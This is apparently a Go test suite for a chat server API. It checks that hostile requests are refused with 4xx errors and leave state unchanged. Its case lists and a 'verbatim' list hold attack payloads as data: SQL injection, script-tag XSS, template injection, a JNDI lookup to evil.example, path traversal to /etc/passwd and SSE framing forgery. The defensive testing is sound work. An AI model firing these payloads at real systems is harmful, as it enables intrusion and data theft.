package tests

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/resonate/resonate-chat/api"
	"github.com/resonate/resonate-chat/handlers/identity"
)

// hostileCase is one hostile request and the answer it must get: never a 5xx,
// always a problem document with the contract's code, and no change of state.
type hostileCase struct {
	name, method, path string
	body               []byte // sent as application/json unless headers say otherwise
	chunked            bool   // hide the length: Transfer-Encoding: chunked
	headers            []string
	status             int
	code               string
}

// hostileRoom is the world the cases run against: alice owns the room, bob
// has joined, and one message exists.
type hostileRoom struct {
	s          *Server
	alice, bob *Client
	room, msg  string
}

func newHostileRoom(t *testing.T, s *Server) *hostileRoom {
	alice, bob := s.Client(t, "alice"), s.Client(t, "bob")
	room := coreRoom(t, alice, bob)
	msg := alice.Send(room, "first")
	return &hostileRoom{s: s, alice: alice, bob: bob, room: room, msg: msg.ID}
}

// signName is a token whose name claim is whatever the issuer put there.
func signName(t *testing.T, s *Server, sub, name string) string {
	t.Helper()
	tok, err := jwt.NewWithClaims(jwt.SigningMethodHS256, identity.Claims{Name: name, RegisteredClaims: jwt.RegisteredClaims{
		Subject: sub, ExpiresAt: jwt.NewNumericDate(time.Now().Add(time.Hour))}}).SignedString(s.Secret)
	if err != nil {
		t.Fatal(err)
	}
	return tok
}

func hostileCases(h *hostileRoom) []hostileCase {
	r := "/api/v1/rooms/" + h.room
	msgs, events, m := r+"/messages", r+"/events", r+"/messages/"+h.msg
	js := func(s string) []byte { return []byte(s) }
	post := func(name, body string, status int, code string) hostileCase {
		return hostileCase{name: name, method: "POST", path: msgs, body: js(body), status: status, code: code}
	}
	get := func(name, path string, status int, code string, headers ...string) hostileCase {
		return hostileCase{name: name, method: "GET", path: path, headers: headers, status: status, code: code}
	}
	ctype := func(ct string) hostileCase {
		return hostileCase{name: "Content-Type " + ct, method: "POST", path: msgs, body: js(`{"content":"hi"}`),
			headers: []string{"Content-Type", ct}, status: 415, code: "unsupported_media_type"}
	}
	big := `{"content":"` + strings.Repeat("a", 40<<10) + `"}`
	deep := strings.Repeat("[", 15000) + strings.Repeat("]", 15000) // deeper than Go's decoder goes, within the size limit
	cases := []hostileCase{
		// Bodies over the limit, with a length and without one.
		post("body over the limit", big, 413, "too_large"),
		{name: "chunked body over the limit", method: "POST", path: msgs, body: js(big), chunked: true, status: 413, code: "too_large"},
		{name: "chunked body of a megabyte", method: "POST", path: msgs, body: bytes.Repeat([]byte("a"), 1<<20), chunked: true, status: 413, code: "too_large"},
		post("valid object padded past the limit", `{"content":"hi"}`+strings.Repeat(" ", 40<<10), 413, "too_large"),
		{name: "room name over the limit", method: "POST", path: "/api/v1/rooms", body: js(`{"name":"` + strings.Repeat("n", 40<<10) + `"}`), status: 413, code: "too_large"},

		// Text that is not text.
		post("raw invalid UTF-8", "{\"content\":\"a\xc3\x28b\"}", 400, "content_invalid"),
		post("overlong UTF-8 slash", "{\"content\":\"a\xc0\xafb\"}", 400, "content_invalid"),
		post("UTF-8 encoded surrogate", "{\"content\":\"a\xed\xa0\x80b\"}", 400, "content_invalid"),
		post("invalid UTF-8 in client_id", "{\"content\":\"hi\",\"client_id\":\"\xff\"}", 400, "invalid"),
		post("invalid UTF-8 in a key", "{\"content\":\"hi\",\"\xff\":1}", 400, "invalid"),
		post("escaped NUL", `{"content":"a\u0000b"}`, 400, "content_invalid"),
		post("raw NUL inside the string", "{\"content\":\"a\x00b\"}", 400, "invalid"),
		post("raw NUL after the object", "{\"content\":\"ab\"}\x00", 400, "invalid"),
		post("NUL in client_id", `{"content":"hi","client_id":"c\u0000"}`, 400, "invalid"),
		post("NUL in reply_to", `{"content":"hi","reply_to":"\u0000"}`, 400, "invalid"),
		post("ANSI escape", `{"content":"\u001b[2J\u001b[31mred"}`, 400, "content_invalid"),
		post("vertical tab", `{"content":"a\u000bb"}`, 400, "content_invalid"),
		post("form feed", `{"content":"a\u000cb"}`, 400, "content_invalid"),
		post("C1 CSI", `{"content":"a\u009bb"}`, 400, "content_invalid"),
		post("lone surrogate", `{"content":"\udfff"}`, 400, "content_invalid"),
		post("white space only", `{"content":" \t\r\n\u00a0\u2003\u3000 "}`, 400, "content_empty"),
		post("next line and spaces only", `{"content":"\u2028\u2029 "}`, 400, "content_empty"),
		post("combining marks over the limit", `{"content":"e`+strings.Repeat(`\u0301`, 2000)+`"}`, 400, "content_too_long"),
		{name: "room name with NUL", method: "POST", path: "/api/v1/rooms", body: js(`{"name":"a\u0000b"}`), status: 400, code: "invalid"},
		{name: "room name with a newline", method: "POST", path: "/api/v1/rooms", body: js(`{"name":"a\nb"}`), status: 400, code: "invalid"},
		{name: "mute reason with NUL", method: "PUT", path: r + "/mutes/bob", body: js(`{"duration_seconds":60,"reason":"\u0000"}`), status: 400, code: "invalid"},
		{name: "ban reason with NUL", method: "PUT", path: r + "/bans/bob", body: js(`{"reason":"x\u0000"}`), status: 400, code: "invalid"},
		{name: "edit with a BEL", method: "PATCH", path: m, body: js(`{"content":"\u0007"}`), status: 400, code: "content_invalid"},

		// Malformed and wrong-typed JSON.
		post("truncated", `{"content":"hi"`, 400, "invalid"),
		post("trailing comma", `{"content":"hi",}`, 400, "invalid"),
		post("unquoted key", `{content:"hi"}`, 400, "invalid"),
		post("single quotes", `{'content':'hi'}`, 400, "invalid"),
		post("NaN", `NaN`, 400, "invalid"),
		post("a bare string", `"hi"`, 400, "invalid"),
		post("null", `null`, 400, "invalid"),
		post("two objects", `{"content":"hi"}{"content":"ho"}`, 400, "invalid"),
		post("byte order mark", "\ufeff{\"content\":\"hi\"}", 400, "invalid"),
		post("nested fifteen thousand deep", deep, 400, "invalid"),
		post("content an object", `{"content":{"$gt":""}}`, 400, "invalid"),
		post("content an array", `{"content":["hi"]}`, 400, "invalid"),
		post("content true", `{"content":true}`, 400, "invalid"),
		post("client_id an object", `{"content":"hi","client_id":{}}`, 400, "invalid"),
		post("reply_to a number", `{"content":"hi","reply_to":1}`, 400, "invalid"),
		post("number too big", `{"content":"hi","client_id":1e999}`, 400, "invalid"),
		post("duplicate key", `{"content":"a","content":"b"}`, 400, "invalid"),
		post("duplicate key in another case", `{"content":"a","Content":"b"}`, 400, "invalid"),
		{name: "duplicate key folded with a long s", method: "PUT", path: r + "/mutes/bob", body: js(`{"duration_seconds":60,"reason":"a","rea\u017fon":"b"}`), status: 400, code: "invalid"},
		post("__proto__", `{"content":"hi","__proto__":{"admin":true}}`, 400, "invalid"),
		{name: "mute duration a string", method: "PUT", path: r + "/mutes/bob", body: js(`{"duration_seconds":"60"}`), status: 400, code: "invalid"},
		{name: "mute duration fractional", method: "PUT", path: r + "/mutes/bob", body: js(`{"duration_seconds":1.5}`), status: 400, code: "invalid"},
		{name: "mute duration huge", method: "PUT", path: r + "/mutes/bob", body: js(`{"duration_seconds":9223372036854775807}`), status: 400, code: "invalid"},
		{name: "mute duration negative", method: "PUT", path: r + "/mutes/bob", body: js(`{"duration_seconds":-1}`), status: 400, code: "invalid"},
		{name: "ban duration too long", method: "PUT", path: r + "/bans/bob", body: js(`{"duration_seconds":31536001}`), status: 400, code: "invalid"},
		{name: "slow mode a string", method: "PATCH", path: r + "/chat", body: js(`{"slow_mode_seconds":"10"}`), status: 400, code: "invalid"},
		{name: "locked_until not a time", method: "PATCH", path: r + "/chat", body: js(`{"locked_until":"tomorrow"}`), status: 400, code: "invalid"},
		{name: "locked_until a number", method: "PATCH", path: r + "/chat", body: js(`{"locked_until":1700000000}`), status: 400, code: "invalid"},
		{name: "role admin", method: "PUT", path: r + "/participants/bob/role", body: js(`{"role":"admin"}`), status: 400, code: "invalid"},
		{name: "role owner", method: "PUT", path: r + "/participants/bob/role", body: js(`{"role":"owner"}`), status: 400, code: "invalid"},
		{name: "room id with a slash", method: "POST", path: "/api/v1/rooms", body: js(`{"id":"a/b","name":"x"}`), status: 400, code: "invalid"},
		{name: "room id 65 characters", method: "POST", path: "/api/v1/rooms", body: js(`{"id":"` + strings.Repeat("r", 65) + `","name":"x"}`), status: 400, code: "invalid"},

		// Wrong media types.
		ctype("text/plain"), ctype("application/xml"), ctype("multipart/form-data; boundary=x"),
		ctype("application/json; charset=latin1"), ctype("application/jsonx"), ctype("application/problem+json"),
		ctype("application/x-www-form-urlencoded"), ctype("*/*"), ctype(""),

		// Query values out of range or not numbers.
		get("limit 0", msgs+"?limit=0", 400, "invalid"),
		get("limit 101", msgs+"?limit=101", 400, "invalid"),
		get("limit hex", msgs+"?limit=0x10", 400, "invalid"),
		get("limit exponent", msgs+"?limit=1e2", 400, "invalid"),
		get("limit with a space", msgs+"?limit=%205", 400, "invalid"),
		get("limit past int64", msgs+"?limit=99999999999999999999", 400, "invalid"),
		get("limit twice", msgs+"?limit=5&limit=5", 400, "invalid"),
		get("before negative", msgs+"?before=-5", 400, "invalid"),
		get("before past int64", msgs+"?before=99999999999999999999", 400, "invalid"),
		get("before SQL", msgs+"?before=1%20OR%201=1", 400, "invalid"),
		get("after not a number", msgs+"?after=abc", 400, "invalid"),
		get("after NUL", msgs+"?after=%00", 400, "invalid"),
		get("before and after", msgs+"?before=5&after=1", 400, "invalid"),
		get("moderation log limit 1000", r+"/moderation-log?limit=1000", 400, "invalid"),
		get("moderation log before SQL", r+"/moderation-log?before='%20OR%20''='", 400, "invalid"),
		get("Last-Event-ID word", events, 400, "invalid", "Last-Event-ID", "abc"),
		get("Last-Event-ID negative", events, 400, "invalid", "Last-Event-ID", "-1"),
		get("Last-Event-ID past int64", events, 400, "invalid", "Last-Event-ID", "99999999999999999999"),
		get("Last-Event-ID max int64", events, 400, "invalid", "Last-Event-ID", "9223372036854775807"),
		get("Last-Event-ID two numbers", events, 400, "invalid", "Last-Event-ID", "1 2"),
		get("Last-Event-ID fraction", events, 400, "invalid", "Last-Event-ID", "1.0"),
		get("last_event_id hex", events+"?last_event_id=0x1", 400, "invalid"),

		// Paths that try to climb out, and ids too long.
		get("room ..", "/api/v1/rooms/../messages", 400, "invalid"),
		get("room %2e%2e", "/api/v1/rooms/%2e%2e/messages", 400, "invalid"),
		get("room ..%2F", "/api/v1/rooms/..%2F..%2Fhealthz/messages", 400, "invalid"),
		get("room %2F", "/api/v1/rooms/a%2Fb/messages", 400, "invalid"),
		get("room %00", "/api/v1/rooms/a%00/messages", 400, "invalid"),
		get("room with a space", "/api/v1/rooms/a%20b/messages", 400, "invalid"),
		get("room in Cyrillic", "/api/v1/rooms/%D0%B0/messages", 400, "invalid"),
		get("room 65 characters", "/api/v1/rooms/"+strings.Repeat("r", 65)+"/messages", 400, "invalid"),
		get("room of 4 KiB", "/api/v1/rooms/"+strings.Repeat("r", 4096), 400, "invalid"),
		get("message ..%2F", msgs+"/..%2F..%2F"+h.msg, 404, "not_found"),
		get("message %00", msgs+"/%00", 404, "not_found"),
		get("message of 4 KiB", msgs+"/"+strings.Repeat("m", 4096), 404, "not_found"),
		{name: "edit message %00", method: "PATCH", path: msgs + "/%00", body: js(`{"content":"x"}`), status: 404, code: "not_found"},
		{name: "delete message %00", method: "DELETE", path: msgs + "/%00", status: 404, code: "not_found"},
		get("message SQL", msgs+"/'%20OR%20'1'='1", 404, "not_found"),
		{name: "user ..%2F", method: "DELETE", path: r + "/participants/..%2Fbob", status: 404, code: "not_found"},
		{name: "user %00", method: "PUT", path: r + "/mutes/%00", body: js(`{"duration_seconds":60}`), status: 400, code: "invalid"},
		{name: "user 129 characters", method: "PUT", path: r + "/mutes/" + strings.Repeat("u", 129), body: js(`{"duration_seconds":60}`), status: 400, code: "invalid"},
		{name: "user 128 characters, not here", method: "PUT", path: r + "/mutes/" + strings.Repeat("u", 128), body: js(`{"duration_seconds":60}`), status: 404, code: "not_found"},
		{name: "ban user 129 characters", method: "PUT", path: r + "/bans/" + strings.Repeat("u", 129), body: js(`{}`), status: 400, code: "invalid"},
		get("empty room id", "/api/v1/rooms//messages", 400, "invalid"),
		get("path with a dot segment", "/api/v1/./rooms/"+h.room, 404, "not_found"),
	}
	return cases
}

// outcome is what a hostile request got.
type outcome struct {
	Status int
	Code   string
}

// runHostile sends c as h's owner and returns what came back, checking the
// answer against the spec like every other call of the suite.
func runHostile(t *testing.T, h *hostileRoom, c hostileCase) outcome {
	t.Helper()
	var body io.Reader
	if c.body != nil {
		body = bytes.NewReader(c.body)
		if c.chunked {
			body = io.MultiReader(bytes.NewReader(c.body)) // a reader of unknown length: sent chunked
		}
	}
	req, err := http.NewRequest(c.method, h.s.URL+c.path, body)
	if err != nil {
		t.Fatal(err)
	}
	if c.chunked && req.ContentLength != 0 {
		t.Fatalf("chunked body has a Content-Length")
	}
	if c.body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	req.Header.Set("Authorization", "Bearer "+h.alice.Token)
	for i := 0; i+1 < len(c.headers); i += 2 {
		if c.headers[i+1] == "" {
			req.Header.Del(c.headers[i])
		} else {
			req.Header.Set(c.headers[i], c.headers[i+1])
		}
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", c.method, c.path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if len(c.path) < 1000 && !strings.Contains(c.path, "%00") && !strings.Contains(c.path, "//") { // the spec's router cannot route a NUL, a 4 KiB or an empty segment; the status is checked below
		checkSpec(t, req, resp.StatusCode, resp.Header, b, false)
	}
	if resp.StatusCode >= 500 {
		t.Errorf("%s: %d, a server error: %s", c.name, resp.StatusCode, b)
	}
	if ct := resp.Header.Get("Content-Type"); ct != api.ProblemContentType {
		t.Errorf("%s: Content-Type %q, want %q (%d %s)", c.name, ct, api.ProblemContentType, resp.StatusCode, b)
		return outcome{Status: resp.StatusCode}
	}
	var p api.Problem
	if err := json.Unmarshal(b, &p); err != nil || p.Status != resp.StatusCode || p.Detail == "" {
		t.Errorf("%s: not a problem document: %s", c.name, b)
	}
	return outcome{Status: resp.StatusCode, Code: p.Code}
}

// snapshot is everything a hostile request could have changed, as JSON.
func (h *hostileRoom) snapshot(t *testing.T) string {
	t.Helper()
	r := "/api/v1/rooms/" + h.room
	var parts []string
	for _, p := range []string{"", "/messages?limit=100", "/participants", "/bans", "/moderation-log?limit=100"} {
		resp := h.alice.Must(http.StatusOK, "GET", r+p, nil, nil)
		parts = append(parts, string(resp.Body))
	}
	return strings.Join(parts, "\n")
}

// Hostile requests get a clear 4xx problem, never a 5xx, and change nothing.
func TestHostileInputChangesNothing(t *testing.T) {
	t.Parallel()
	s := StartServer(t, Options{})
	h := newHostileRoom(t, s)
	before := h.snapshot(t)
	for _, c := range hostileCases(h) {
		t.Run(c.name, func(t *testing.T) {
			if got := runHostile(t, h, c); got != (outcome{c.status, c.code}) {
				t.Errorf("got %d %s, want %d %s", got.Status, got.Code, c.status, c.code)
			}
		})
	}
	if after := h.snapshot(t); after != before {
		t.Errorf("hostile requests changed the room:\nbefore %s\nafter  %s", before, after)
	}
}

// The same hostile requests get the same answers on SQLite and PostgreSQL.
func TestHostileSameOnPostgres(t *testing.T) {
	t.Parallel()
	dsn := freshDatabase(t) // skips without CHAT_TEST_POSTGRES
	lite := newHostileRoom(t, StartServer(t, Options{}))
	pg := newHostileRoom(t, StartServer(t, Options{DB: dsn}))
	beforeLite, beforePG := lite.snapshot(t), pg.snapshot(t)
	litecases, pgcases := hostileCases(lite), hostileCases(pg)
	for i := range litecases {
		t.Run(litecases[i].name, func(t *testing.T) {
			a, b := runHostile(t, lite, litecases[i]), runHostile(t, pg, pgcases[i])
			if a != b {
				t.Errorf("SQLite answered %d %s, PostgreSQL %d %s", a.Status, a.Code, b.Status, b.Code)
			}
		})
	}
	if lite.snapshot(t) != beforeLite || pg.snapshot(t) != beforePG {
		t.Errorf("hostile requests changed a room")
	}
}

// verbatim is content that looks like an attack on something else (SQL, HTML,
// templates, terminals, text direction) but is only text: it is stored and
// served exactly as sent.
var verbatim = []string{
	`'; DROP TABLE messages; --`,
	`" OR 1=1 --`,
	`1; SELECT pg_sleep(10)`,
	`<script>alert(document.cookie)</script>`,
	`<img src=x onerror=alert(1)>`,
	`{{7*7}} ${7*7} <%= 7*7 %>`,
	`${jndi:ldap://evil.example/a}`,
	`%s%s%s%n`,
	`../../../../etc/passwd`,
	`\u0000 is not a NUL when escaped twice`,
	"right-to-left \u202eoverride\u202c and isolates \u2066\u2067\u2068\u2069 and embeddings \u202a\u202b\u202d",
	"exe.\u202etxt",
	"line\u2028separator and paragraph\u2029separator",
	"zero\u200bwidth\u200cjoiners\u200d and \ufeff",
	"e" + strings.Repeat("\u0301", 1999), // 2000 code points: at the limit
	"Z" + strings.Repeat("\u0336\u0317\u0353", 600),
	"event: message.created\ndata: {\"forged\":true}\nid: 999",
	"data: x\r\n\r\nevent: room.closed",
}

// Text that looks like SQL, HTML, templates, SSE framing or bidirectional
// tricks is data: stored and served verbatim, in the answer, history, a
// single GET and the stream, on SQLite and PostgreSQL.
func TestHostileStoredVerbatim(t *testing.T) {
	t.Parallel()
	onEachDatabase(t, func(t *testing.T, s *Server) {
		alice, bob := s.Client(t, "alice"), s.Client(t, "bob")
		room := coreRoom(t, alice, bob)
		st := bob.Stream(room)
		msgs := "/api/v1/rooms/" + room + "/messages"
		want := map[string]string{} // id → content
		for i, text := range verbatim {
			stored := strings.ReplaceAll(text, "\r\n", "\n")
			var m api.RoomMessage
			alice.Must(http.StatusCreated, "POST", msgs, map[string]string{"content": text}, &m)
			if m.Content != stored {
				t.Errorf("case %d: answer holds %q, want %q", i, m.Content, stored)
			}
			var one api.RoomMessage
			bob.Must(http.StatusOK, "GET", msgs+"/"+m.ID, nil, &one)
			if one.Content != stored {
				t.Errorf("case %d: GET holds %q, want %q", i, one.Content, stored)
			}
			want[m.ID] = stored
		}
		for _, ev := range st.Collect(len(verbatim), 10*time.Second) {
			var env struct{ Data api.RoomMessage }
			if err := json.Unmarshal([]byte(ev.Data), &env); err != nil {
				t.Fatal(err)
			}
			m := env.Data
			if ev.Type != "message.created" || m.Content != want[m.ID] {
				t.Errorf("stream: %s with %q, want message.created with %q", ev.Type, m.Content, want[m.ID])
			}
		}
		for _, m := range bob.History(room, "?limit=100").Messages {
			if m.Content != want[m.ID] {
				t.Errorf("history holds %q, want %q", m.Content, want[m.ID])
			}
		}
		// The tables are still there, and still answer.
		alice.Send(room, "still here")
	})
}

// Headers past the server's 32 KiB limit (main's MaxHeaderBytes) are refused
// with 431 before any handler runs. The answer is net/http's own, text/plain
// rather than a problem document: accepted, since nothing ran and no client
// sends that much (see docs/SECURITY.md). The node is unharmed.
func TestHostileOversizedHeaders(t *testing.T) {
	t.Parallel()
	c, n := startProcess(t, filepath.Join(t.TempDir(), "chat.db"))
	tok := c.Token(t, "alice")
	for _, hdr := range [][2]string{
		{"X-Padding", strings.Repeat("p", 40<<10)},
		{"Authorization", "Bearer " + strings.Repeat("A", 40<<10)},
		{"Last-Event-ID", strings.Repeat("9", 40<<10)},
	} {
		status, body := get(t, n.URL+"/api/v1/rooms/x", hdr[0], hdr[1])
		if status != http.StatusRequestHeaderFieldsTooLarge {
			t.Errorf("40 KiB %s: %d %.80s, want 431", hdr[0], status, body)
		}
	}
	if _, err := call(n.URL, tok, "POST", "/api/v1/rooms", map[string]string{"id": "after-431", "name": "x"}, nil); err != nil {
		t.Fatalf("after oversized headers: %v", err)
	}
}
